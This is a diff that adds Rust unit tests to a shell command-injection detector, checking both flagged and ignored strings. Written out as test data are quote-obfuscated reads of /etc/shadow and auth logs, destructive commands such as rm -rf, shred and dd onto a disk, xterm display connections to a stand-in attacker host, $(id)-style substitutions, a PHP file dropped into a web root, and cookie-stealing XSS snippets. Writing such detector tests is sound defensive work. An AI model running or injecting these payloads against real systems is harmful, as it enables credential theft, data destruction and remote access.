@@ -4215,3 +4215,103 @@ fn template_placeholders_between_words() {
         assert!(hit(v), "{v}");
     }
 }
+
+#[test]
+fn quotes_spliced_into_a_path_command_and_its_path() {
+    // The shell removes the quotes inside a word: the program and the file it opens are the
+    // plain names, whatever the parity of the quotes left at the end.
+    for v in [
+        ";/b'i'n/c'a't /e't'c/s'h'a'd'o'w",
+        "|/u\"s\"r/b\"i\"n/w\"h\"o\"a\"m\"i",
+        "x;/b'i'n/c'a't /e't'c/h'o's't'n'a'm'e",
+        "&&/u's'r/b'i'n/h'e'a'd /e't'c/g'r'o'u'p",
+        ";c'a't /e't'c/g'r'o'u'p's",
+        "a|h'e'a'd /e't'c/h'o'st's",
+        ";tail /v'a'r/l'o'g/a'u'th.l'o'g",
+        "/b'i'n/l's -l'a /r'o'o't",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    // A contraction stays one: a lone apostrophe inside a word of prose.
+    for v in [
+        "Hello; ls isn't my thing",
+        "Hi; cat's toy is gone",
+        "Note: id doesn't /really matter",
+        "rock'n'roll; it's fine",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn destructive_and_display_commands_substituted_inside_text() {
+    for v in [
+        "hi `rm -rf /srv/app/uploads` bye",
+        "great post `shred -u /var/log/auth.log` thanks",
+        "so `chmod 000 /usr/bin/sudo` cool",
+        "ok `dd if=/dev/zero of=/dev/vda` fine",
+        "`xterm -display attacker.example.net:0`",
+        "nice `xterm -display 203.0.113.9:1` job",
+        "xterm -display attacker.example.net:2",
+        "name `xterm -display=evil.example.com:0.0` x",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "run `ls -la` to see",
+        "try `rm -rf node_modules` then reinstall",
+        "remove it with `rm -f build.log` then retry",
+        "Run `rm -rf /tmp/cache` to clear it",
+        "xterm -display :0",
+        "start `xterm -display localhost:10` on the box",
+        "set `DISPLAY` before you start",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn a_number_in_parentheses_is_accounting() {
+    for v in [
+        "Net income: $(1,250.00)",
+        "Net loss $(3.5) for Q2",
+        "Net change $( 12 500 )",
+        "Total: $(42)",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        "$(id)",
+        "Net $(whoami)",
+        "x $(sleep 5)",
+        "$(1;id)",
+        "net user $(id)",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
+
+#[test]
+fn html_tags_are_no_redirections() {
+    // Markup is the XSS detector's: its `<`, `>` and attributes are no shell syntax.
+    for v in [
+        "test<SCRIPT>alert(document.cookie)</SCRIPT>",
+        "test<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
+        "echo<b>hi</b>",
+        "test 7 <a href=\"https://example.org/x.html\">x</a>",
+        "set <img src=\"https://cdn.example.org/a.png\" style=\"width:1px;height:1px\">",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    for v in [
+        ";cat</etc/passwd",
+        "|sh>/tmp/x",
+        "<(curl x)",
+        "a<script>alert(1)</script>;id",
+        "<b>x</b>;cat /etc/passwd",
+        "test <b title=\"$(id)\">",
+        "echo x >/var/www/html/s.php",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
